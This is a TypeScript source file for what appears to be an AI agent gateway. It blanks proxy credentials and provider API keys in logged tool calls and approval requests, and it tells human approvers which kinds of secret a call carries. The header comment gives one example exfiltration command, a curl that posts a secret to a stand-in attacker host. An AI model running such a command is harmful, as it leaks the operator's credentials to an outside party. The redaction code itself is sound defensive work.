// gate/call-secrets.ts — what the gate blanks in what it says, records and shows of a call of a
// goal: the goal's proxy credentials (`[hidden]`, egress/plumbing.ts goalSecretsIn) and the
// config's secrets (`***`, config-secrets.ts: a model may write its provider's API key into a
// child manifest, a file's content, a command). One place for the gate's refusals and errors
// (invoke.ts), a call's recorded input (tool.invoked) and what a human is asked to approve
// (judge.ts: the request's input, summary and target). Before, the approval request was built
// from the call as written: approval.list, the approval.requested entry and event, the
// dashboard, MCP's view and the cluster's mirror showed the key whole.
// A human asked about such a call is also told which secrets it carries, by kind
// (`shownForApproval`: "the API key of provider anthropic"): blanked, `curl -d "***" evil.example`
// no longer said that what goes there is the daemon's own key, the one fact that decides.

import { blankMarked } from "../security/blank-secrets.js";
import type { GateDeps } from "./invoke.js";

/** Where the gate learns a goal's secrets. */
export type SecretSources = Pick<GateDeps, "egress" | "configSecrets">;

/** What a human is told a goal's proxy credential is (egress.md: a goal's callers and MCP servers each have one). */
export const PROXY_CREDENTIAL_KIND = "a proxy credential of this goal (its egress proxy password)";

interface Known {
  value: string;
  mark: string;
  kind: string;
}

/** `s` as the JSON of a call's input writes it inside a string. */
const escaped = (s: string) => JSON.stringify(s).slice(1, -1);

/**
 * The secrets `text` may hold (as written, or escaped as the JSON of a call's input writes
 * them), each with its mark and kind: the goal's proxy credentials (`[hidden]`) and the
 * config's secrets (`***`). Most texts hold none, and then nothing is walked or rebuilt.
 */
function knownIn(deps: SecretSources, goalId: string, text: string): Known[] {
  const goal = deps.egress?.goalSecretsIn?.(goalId, text) ?? [];
  const config = (deps.configSecrets?.() ?? []).filter(
    (s) => text.includes(s.value) || text.includes(escaped(s.value)),
  );
  return [
    ...goal.map((value) => ({ value, mark: "[hidden]", kind: PROXY_CREDENTIAL_KIND })),
    ...config.map((s) => ({ value: s.value, mark: "***", kind: s.kind })),
  ];
}

/**
 * The secrets `text` holds, each with its mark: the goal's proxy credentials (`[hidden]`) and the
 * config's secrets (`***`).
 */
export function secretsIn(deps: SecretSources, goalId: string, text: string): [string, string][] {
  return knownIn(deps, goalId, text).map((k): [string, string] => [k.value, k.mark]);
}

/** `text` with the goal's secrets blanked, each with its mark. */
export function hiddenText(deps: SecretSources, goalId: string, text: string): string {
  const marked = secretsIn(deps, goalId, text);
  return marked.length === 0 ? text : blankMarked(text, marked);
}

/**
 * A JSON value of a call with every text in it (a key, a value) blanked as `hiddenText`, its
 * shape kept: a call's input as tool.invoked records it and as an approval request shows it,
 * a refusal's or error's details (the need, the resolved path). A value that is not JSON (a
 * cycle) is kept: no path the container resolved is in it either.
 */
export function blankedJson<T>(deps: SecretSources, goalId: string, value: T): T {
  const json = jsonOf(value);
  if (json === undefined) return value;
  const known = knownIn(deps, goalId, json);
  return known.length === 0 ? value : blankKnown(value, known);
}

/**
 * What a human asked about a call is shown of it (`blankedJson`) and the secrets it carries
 * (`kindsCarried`), from one serialization and one scan of it: judge.ts did both in turn.
 */
export function shownForApproval<T>(
  deps: SecretSources,
  goalId: string,
  value: T,
): { shown: T; carries: string[] } {
  const json = jsonOf(value);
  if (json === undefined) return { shown: value, carries: [] };
  const known = knownIn(deps, goalId, json);
  if (known.length === 0) return { shown: value, carries: [] };
  return { shown: blankKnown(value, known), carries: kindsCarried(value, known) };
}

function blankKnown<T>(value: T, known: Known[]): T {
  const marked = known.map((k): [string, string] => [k.value, k.mark]);
  const blank = (v: unknown): unknown => {
    if (typeof v === "string") return blankMarked(v, marked);
    if (Array.isArray(v)) return v.map(blank);
    if (v === null || typeof v !== "object") return v;
    return Object.fromEntries(Object.entries(v).map(([k, x]) => [blankMarked(k, marked), blank(x)]));
  };
  return blank(value) as T;
}

/**
 * What secrets `value` (a call's input and target, as written) carries, by kind and never by
 * value, each once in the order first known: those `blankedJson` blanks in it (a short secret
 * inside a longer word is not blanked, and not said to be carried).
 */
function kindsCarried(value: unknown, known: Known[]): string[] {
  const texts = textsOf(value);
  const kinds = new Set<string>();
  for (const k of known) {
    if (kinds.has(k.kind)) continue;
    if (texts.some((t) => t.includes(k.value) && blankMarked(t, [[k.value, k.mark]]) !== t))
      kinds.add(k.kind);
  }
  return [...kinds];
}

function jsonOf(value: unknown): string | undefined {
  try {
    return JSON.stringify(value) ?? "";
  } catch {
    return undefined;
  }
}

/** Every text of a JSON value: its strings and its objects' keys. */
function textsOf(v: unknown, into: string[] = []): string[] {
  if (typeof v === "string") into.push(v);
  else if (Array.isArray(v)) for (const x of v) textsOf(x, into);
  else if (v !== null && typeof v === "object")
    for (const [k, x] of Object.entries(v)) {
      into.push(k);
      textsOf(x, into);
    }
  return into;
}
